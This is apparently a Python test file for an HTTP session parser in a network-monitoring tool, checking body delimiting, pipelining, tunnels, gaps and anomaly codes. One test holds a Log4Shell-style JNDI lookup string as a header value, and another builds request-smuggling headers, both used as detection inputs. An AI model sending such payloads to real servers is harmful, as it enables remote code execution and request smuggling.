"""HTTP session: pairing of pipelined requests, every way a body is delimited (RFC 9112 6.3),
interim responses, tunnels, HTTP/0.9, gaps, limits and each anomaly."""

from __future__ import annotations

import base64
import hashlib

import pytest

from otshield.config import Settings
from otshield.protocols.http.events import HttpEvent
from otshield.protocols.http.session import HttpSession

from .it_a_build import FakeFlow

GET = b"GET /index.html HTTP/1.1\r\nHost: hmi.plant:8080\r\nUser-Agent: curl/8.5\r\n\r\n"
OK = (b"HTTP/1.1 200 OK\r\nServer: lighttpd\r\nContent-Type: text/html\r\n"
      b"Content-Length: 5\r\n\r\nhello")


def run(messages: list[tuple[bool, bytes]], chunk: int = 0,
        settings: Settings | None = None, close: bool = True) -> FakeFlow:
    flow = FakeFlow("tcp", server=("10.0.0.20", 80), settings=settings)
    s = HttpSession(flow)
    for from_client, data in messages:
        flow.step()
        if chunk:
            for i in range(0, len(data), chunk):
                s.on_data(data[i:i + chunk], from_client)
        else:
            s.on_data(data, from_client)
    if close:
        s.close()
    return flow


def test_simple_transaction() -> None:
    flow = run([(True, GET), (False, OK)])
    (ev,) = flow.of("http")
    assert isinstance(ev, HttpEvent)
    assert (ev.method, ev.uri, ev.host, ev.host_port, ev.version, ev.user_agent) == (
        "GET", "/index.html", "hmi.plant", 8080, "1.1", "curl/8.5")
    assert (ev.status, ev.reason, ev.server, ev.response_content_type,
            ev.response_content_length, ev.response_body_bytes) == (
        200, "OK", "lighttpd", "text/html", 5, 5)
    assert (ev.answered, ev.request_seen, ev.response_complete, ev.request_body_bytes) == (
        True, True, True, 0)
    assert (ev.frame, ev.src_ip, ev.dst_port) == (2, "10.0.0.10", 80)
    assert flow.codes() == []


@pytest.mark.parametrize("chunk", [1, 2, 13])
def test_chunking_does_not_matter(chunk: int) -> None:
    messages = [(True, GET + GET.replace(b"index", b"about")),
                (False, OK + b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")]
    assert run(messages, chunk=chunk).of("http") == run(messages).of("http")


def test_pipelined_requests_pair_in_order() -> None:
    reqs = b"".join(b"GET /%d HTTP/1.1\r\nHost: a\r\n\r\n" % i for i in range(3))
    resps = b"".join(b"HTTP/1.1 %d X\r\nContent-Length: 2\r\n\r\nok" % (200 + i)
                     for i in range(3))
    flow = run([(True, reqs), (False, resps)])
    assert [(e.uri, e.status) for e in flow.of("http")] == [("/0", 200), ("/1", 201),
                                                            ("/2", 202)]


def test_chunked_response_with_trailer_and_chunked_request() -> None:
    post = (b"POST /api/tags HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n"
            b"Content-Type: application/json\r\n\r\n"
            b"4\r\n{\"a\"\r\n3;x=y\r\n:1}\r\n0\r\n\r\n")
    resp = (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"5\r\nhello\r\n1A\r\n" + b"z" * 26 + b"\r\n0\r\nX-Checksum: 1\r\n\r\n")
    flow = run([(True, post), (False, resp), (True, GET), (False, OK)])
    first, second = flow.of("http")
    assert (first.method, first.request_body_bytes, first.request_content_type) == (
        "POST", 7, "application/json")
    assert (first.response_body_bytes, first.response_content_length) == (31, None)
    assert (second.uri, second.status) == ("/index.html", 200)
    assert flow.codes() == []


def test_head_304_and_204_have_no_body() -> None:
    head = b"HEAD / HTTP/1.1\r\nHost: a\r\n\r\n"
    flow = run([(True, head + GET + GET),
                (False, b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"
                 b"HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n"
                 b"HTTP/1.1 204 No Content\r\n\r\n")])
    assert [(e.method, e.status, e.response_body_bytes) for e in flow.of("http")] == [
        ("HEAD", 200, 0), ("GET", 304, 0), ("GET", 204, 0)]


def test_interim_100_continue() -> None:
    put = b"PUT /fw.bin HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"
    flow = run([(True, put), (False, b"HTTP/1.1 100 Continue\r\n\r\n"), (True, b"\x00\x01\x02\x03"),
                (False, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")])
    (ev,) = flow.of("http")
    assert (ev.method, ev.status, ev.request_body_bytes, ev.request_content_length) == (
        "PUT", 201, 4, 4)


def test_body_until_close_is_reported_at_close() -> None:
    flow = run([(True, GET), (False, b"HTTP/1.0 200 OK\r\nServer: GoAhead\r\n\r\n"),
                (False, b"x" * 1000), (False, b"y" * 24)])
    (ev,) = flow.of("http")
    assert (ev.status, ev.response_body_bytes, ev.response_version, ev.response_complete) == (
        200, 1024, "1.0", True)
    assert ev.frame == 4


def test_connect_tunnel_is_not_read() -> None:
    flow = run([(True, b"CONNECT plc.example:443 HTTP/1.1\r\nHost: plc.example:443\r\n\r\n"),
                (False, b"HTTP/1.1 200 Connection established\r\n\r\n"),
                (True, b"\x16\x03\x01\x00\x05hello"), (False, b"\x16\x03\x03garbage")])
    (ev,) = flow.of("http")
    assert (ev.method, ev.uri, ev.host, ev.host_port, ev.status) == (
        "CONNECT", "plc.example:443", "plc.example", 443, 200)
    assert flow.codes() == []


def test_websocket_upgrade() -> None:
    flow = run([(True, b"GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\n"
                       b"Connection: Upgrade\r\n\r\n"),
                (False, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n"),
                (True, b"\x81\x85abcd12345"), (False, b"\x81\x05hello")])
    (ev,) = flow.of("http")
    assert (ev.status, ev.upgrade) == (101, "websocket")
    assert flow.codes() == []


def test_http2_preface_ends_http1_parsing() -> None:
    flow = run([(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00"),
                (False, b"\x00\x00\x00\x04\x01\x00\x00\x00\x00")])
    (ev,) = flow.of("http")
    assert (ev.method, ev.version, ev.answered) == ("PRI", "2.0", False)
    assert flow.codes() == []


def test_http09() -> None:
    flow = run([(True, b"GET /status\r\n"), (False, b"<html>up</html>")])
    (ev,) = flow.of("http")
    assert (ev.version, ev.status, ev.response_body_bytes, ev.answered) == ("0.9", None, 15,
                                                                           True)


def test_unanswered_request() -> None:
    flow = run([(True, GET)])
    assert flow.codes() == ["http.unanswered_request"]
    (ev,) = flow.of("http")
    assert (ev.answered, ev.frame, ev.status) == (False, 1, None)


def test_unsolicited_responses_flagged_once() -> None:
    flow = run([(False, OK), (False, OK)])
    assert flow.codes() == ["http.unsolicited_response"]
    assert [e.request_seen for e in flow.of("http")] == [False, False]
    assert flow.of("http")[0].version == "1.1"


def test_pending_bound() -> None:
    flow = run([(True, GET * 4)], settings=Settings(max_pending_requests=3), close=False)
    assert flow.codes() == ["http.too_many_pending"]
    assert [e.answered for e in flow.of("http")] == [False]


def test_invalid_request_line_stops_the_direction() -> None:
    flow = run([(True, b"\x01\x02garbage that is not http\r\n" + GET), (True, GET),
                (False, OK)])
    assert flow.codes() == ["http.invalid_request_line", "http.unsolicited_response"]


def test_invalid_status_line() -> None:
    flow = run([(True, GET), (False, b"SSH-2.0-OpenSSH\r\n")])
    assert flow.codes() == ["http.invalid_status_line", "http.unanswered_request"]


def test_header_too_long() -> None:
    flow = run([(True, b"GET / HTTP/1.1\r\nCookie: " + b"a" * 70_000)])
    assert flow.codes() == ["http.header_too_long"]
    assert flow.of("http") == []


def test_smuggling_indicators() -> None:
    both = (b"POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
    flow = run([(True, both), (False, OK)])
    assert flow.codes() == ["http.content_length_with_chunked"]
    assert flow.of("http")[0].request_body_bytes == 0  # chunked wins (RFC 9112 6.3)
    twice = b"POST /a HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc"
    assert run([(True, twice)]).codes()[0] == "http.invalid_content_length"
    te = b"POST /a HTTP/1.1\r\nTransfer-Encoding: chunked, gzip\r\n\r\n"
    assert run([(True, te)]).codes()[0] == "http.invalid_transfer_encoding"
    same = b"POST /a HTTP/1.1\r\nContent-Length: 3, 3\r\n\r\nabc"
    flow = run([(True, same), (False, OK)])
    assert flow.codes() == [] and flow.of("http")[0].request_body_bytes == 3


def test_invalid_chunks() -> None:
    bad_size = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"
    assert run([(True, GET), (False, bad_size)]).codes()[0] == "http.invalid_chunk"
    no_crlf = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabXX"
    assert run([(True, GET), (False, no_crlf)]).codes()[0] == "http.invalid_chunk"


def test_credentials() -> None:
    token = base64.b64encode(b"engineer:hunter2").decode()
    req = (f"GET /admin HTTP/1.1\r\nHost: a\r\nAuthorization: Basic {token}\r\n\r\n").encode()
    flow = run([(True, req), (False, OK)])
    (ev,) = flow.of("http")
    assert (ev.auth_scheme, ev.username, ev.password_present) == ("Basic", "engineer", True)
    assert "hunter2" not in repr(flow.events)
    bad = b"GET / HTTP/1.1\r\nProxy-Authorization: Basic %%%\r\n\r\n"
    flow = run([(True, bad), (False, OK)])
    assert flow.codes() == ["http.invalid_authorization"]
    assert flow.of("http")[0].auth_scheme is None


def test_header_anomalies_are_reported() -> None:
    req = b"GET / HTTP/1.1\r\nHost : a\r\nX: 1\r\n 2\r\n\r\n"
    assert run([(True, req), (False, OK)]).codes() == ["http.invalid_header",
                                                       "http.obsolete_line_folding"]


def test_server_gap_reports_what_is_known() -> None:
    flow = FakeFlow("tcp", server=("10.0.0.20", 80))
    s = HttpSession(flow)
    s.on_data(GET + GET.replace(b"index", b"second"), True)
    s.on_data(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nabc", False)
    s.on_gap(False, 5000)
    # resynchronised at the next line that starts a response
    s.on_data(b"lost body bytes HTTP/1.1 200 no\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n"
              b"\r\nok", False)
    s.close()
    first, second, third = flow.of("http")
    assert (first.uri, first.status, first.response_complete, first.response_body_bytes) == (
        "/index.html", 200, False, None)
    assert (second.uri, second.answered) == ("/second.html", False)
    assert (third.request_seen, third.status) == (False, 200)
    assert flow.codes() == []  # the engine reports the gap itself


def test_client_gap_resynchronises_on_the_next_request() -> None:
    flow = FakeFlow("tcp", server=("10.0.0.20", 80))
    s = HttpSession(flow)
    s.on_data(b"POST /big HTTP/1.1\r\nContent-Length: 100000\r\n\r\nxxxx", True)
    s.on_gap(True, 99000)
    s.on_data(b"tail of the body GET / HTTP/1.1\r\n" + GET, True)
    s.on_data(OK + OK, False)
    s.close()
    assert [(e.uri, e.status) for e in flow.of("http")] == [("/big", 200),
                                                            ("/index.html", 200)]


# -- request header list and body digests ------------------------------------------------------
def _sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_request_headers_bounded_and_flagged() -> None:
    extra = b"".join(b"X-H%d: v%d\r\n" % (i, i) for i in range(40))
    req = (b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer s3cret\r\nX-Api-Version: "
           b"${jndi:ldap://x/a}\r\n" + extra + b"\r\n")
    (ev,) = run([(True, req), (False, OK)]).of("http")
    assert ev.request_headers is not None
    names = [h.name for h in ev.request_headers]
    # Host and Authorization are broken out (and the token never kept); 32 others kept in order
    assert names == ["x-api-version"] + [f"x-h{i}" for i in range(31)]
    assert ev.request_headers[0].value == "${jndi:ldap://x/a}"
    assert ev.request_headers_truncated is True
    assert all("s3cret" not in h.value for h in ev.request_headers)


def test_request_header_value_cut_at_1024() -> None:
    req = b"GET / HTTP/1.1\r\nX-Long: " + b"a" * 2000 + b"\r\nAccept: */*\r\n\r\n"
    (ev,) = run([(True, req), (False, OK)]).of("http")
    assert ev.request_headers is not None
    assert [(h.name, len(h.value)) for h in ev.request_headers] == [("x-long", 1024),
                                                                     ("accept", 3)]
    assert ev.request_headers_truncated is True


def test_no_extra_headers_no_field() -> None:
    (ev,) = run([(True, GET), (False, OK)]).of("http")
    assert (ev.request_headers, ev.request_headers_truncated) == (None, None)


def test_folded_header_value_joined() -> None:
    req = b"GET / HTTP/1.1\r\nX-Fold: one\r\n two\r\n\r\n"
    (ev,) = run([(True, req), (False, OK)]).of("http")
    assert ev.request_headers is not None
    assert [(h.name, h.value) for h in ev.request_headers] == [("x-fold", "one two")]


@pytest.mark.parametrize("chunk", [0, 1, 7])
def test_body_digests_length_and_chunked(chunk: int) -> None:
    payload = bytes(range(256)) * 40
    chunked = b"".join(b"%x\r\n%s\r\n" % (len(payload[i:i + 999]), payload[i:i + 999])
                       for i in range(0, len(payload), 999)) + b"0\r\n\r\n"
    post = (b"POST /fw HTTP/1.1\r\nHost: plc\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked)
    resp = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(payload), payload[::-1])
    (ev,) = run([(True, post), (False, resp)], chunk=chunk).of("http")
    assert ev.request_body_sha256 == _sha256(payload)
    assert ev.response_body_sha256 == _sha256(payload[::-1])
    assert (ev.request_body_md5, ev.request_body_sha1) == (
        hashlib.md5(payload).hexdigest(), hashlib.sha1(payload).hexdigest())


def test_body_until_close_is_hashed() -> None:
    flow = run([(True, GET), (False, b"HTTP/1.0 200 OK\r\n\r\n"), (False, b"x" * 1000),
                (False, b"y" * 24)])
    (ev,) = flow.of("http")
    assert ev.response_body_sha256 == _sha256(b"x" * 1000 + b"y" * 24)


def test_no_digest_for_empty_or_incomplete_bodies() -> None:
    # an empty body has no digest
    (ev,) = run([(True, GET), (False, OK.replace(b"Length: 5", b"Length: 0")[:-5])]).of("http")
    assert ev.response_body_sha256 is None
    # the connection ended inside a length-delimited body
    (ev,) = run([(True, GET), (False, OK[:-2])]).of("http")
    assert (ev.response_complete, ev.response_body_sha256) == (False, None)
    # a body delimited by the close that lost bytes in a gap
    flow = FakeFlow("tcp", server=("10.0.0.20", 80))
    s = HttpSession(flow)
    s.on_data(GET, True)
    s.on_data(b"HTTP/1.0 200 OK\r\n\r\nabc", False)
    s.on_gap(False, 100)
    s.on_data(b"def", False)
    s.close()
    (ev,) = flow.of("http")
    assert (ev.response_body_bytes, ev.response_body_sha256) == (6, None)
